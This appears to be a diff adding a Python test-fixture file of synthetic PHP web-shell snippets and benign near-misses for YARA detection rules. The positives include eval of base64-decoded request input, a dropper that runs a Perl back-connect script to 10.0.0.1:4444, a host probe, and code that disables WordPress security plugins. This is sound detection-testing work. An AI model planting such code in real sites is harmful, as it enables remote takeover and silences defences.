@@ -1,0 +1,77 @@
+"""Must-hit / near-miss samples for `signatures/shells.yar`, collected by tests/test_rules.py.
+
+Small synthetic PHP written for the tests; no corpus excerpts.
+"""
+
+from __future__ import annotations
+
+DISPATCH = (
+    b"<?php\nfunction actionRun() { echo 1; }\n"
+    b"if (!empty($_POST['x'])) $_POST['x'] .= ' 2>&1';\n"
+    b"if (function_exists('action' . $_POST['go'])) call_user_func('action' . $_POST['go']);\n"
+)
+DISPATCH_NEAR = (
+    b"<?php\n$allowed = ['list', 'show'];\n$a = $_POST['go'] ?? 'list';\n"
+    b"if (in_array($a, $allowed, true)) call_user_func('action' . ucfirst($a));\n"
+)
+
+SPLIT_EVAL = b'<?php\n$src = trim($q);\n$src = "<?php\\n{$src}\\n?>";\neval("?".">$src<?");\n'
+SPLIT_EVAL_NEAR = (
+    b"<?php\n// template engine: compiled template kept in a property\n"
+    b"$compiled = $this->compile($tpl);\neval('?' . '>' . $compiled);\n"
+)
+
+CODEC_EVAL = b"<?php\n$m = $_POST['z'];\nif ($m) { eval(base64_decode($m)); }\n"
+DECODED_EVAL = (
+    b"<?php\nif (isset($_R['run'])) {\n  $c = base64_decode($_R['run']);\n"
+    b"  ob_start(); eval($c); echo ob_get_clean();\n}\n"
+)
+CODEC_EVAL_NEAR = (
+    b"<?php\n$name = $_POST['name'];\n$cfg = base64_decode(file_get_contents('cfg.b64'));\n"
+    b"echo htmlspecialchars($name);\n"
+)
+
+DROPPER = (
+    b"<?php\n$blob = 'dXNlIHN0cmljdDsK';\n$h = fopen('bc.pl', 'w');\n"
+    b"fwrite($h, base64_decode($blob));\nfclose($h);\nsystem('perl bc.pl 10.0.0.1 4444');\n"
+)
+DROPPER_NEAR = (
+    b"<?php\n// build helper: write a deploy script, the admin runs it by hand\n"
+    b"$h = fopen('deploy.sh', 'w');\nfwrite($h, base64_decode($tplB64));\nfclose($h);\n"
+    b"echo 'now run deploy.sh';\n"
+)
+
+PROBE = (
+    b"<?php\nif ($_GET['i']) { phpinfo(); }\n$u = @php_uname();\n"
+    b"$sm = @ini_get('safe_mode');\necho $u . ($sm ? ' SAFE' : ' OFF');\n"
+)
+PROBE_NEAR = (
+    b"<?php\n// admin status page\nif (!is_admin()) exit;\nphpinfo();\n"
+    b"echo php_uname();\necho ini_get('safe_mode');\n"
+)
+
+SECKILL = (
+    b"<?php\nadd_action('init', 'k');\nfunction k() {\n  $o = get_option('itsec_file_change');\n"
+    b"  $o['enabled'] = FALSE;\n  update_option('itsec_file_change', $o);\n"
+    b'  mysql_query("truncate " . PFX . "wfIssues;");\n}\n'
+)
+SECKILL_NEAR = (
+    b"<?php\n// security plugin uninstall: drop its own data\n"
+    b"$wpdb->query(\"truncate {$wpdb->prefix}wfIssues\");\ndelete_option('wordfence_version');\n"
+)
+
+CASES: list[tuple[str, bytes, bool]] = [
+    ("SPAMGEAR_SHELL_ActionDispatchFromInput", DISPATCH, True),
+    ("SPAMGEAR_SHELL_ActionDispatchFromInput", DISPATCH_NEAR, False),
+    ("SPAMGEAR_SHELL_EvalSplitCloseTag", SPLIT_EVAL, True),
+    ("SPAMGEAR_SHELL_EvalSplitCloseTag", SPLIT_EVAL_NEAR, False),
+    ("SPAMGEAR_SHELL_CodecOfInputEval", CODEC_EVAL, True),
+    ("SPAMGEAR_SHELL_CodecOfInputEval", DECODED_EVAL, True),
+    ("SPAMGEAR_SHELL_CodecOfInputEval", CODEC_EVAL_NEAR, False),
+    ("SPAMGEAR_SHELL_ScriptDropperRun", DROPPER, True),
+    ("SPAMGEAR_SHELL_ScriptDropperRun", DROPPER_NEAR, False),
+    ("SPAMGEAR_SHELL_SwitchedHostProbe", PROBE, True),
+    ("SPAMGEAR_SHELL_SwitchedHostProbe", PROBE_NEAR, False),
+    ("SPAMGEAR_SHELL_SecurityPluginKiller", SECKILL, True),
+    ("SPAMGEAR_SHELL_SecurityPluginKiller", SECKILL_NEAR, False),
+]
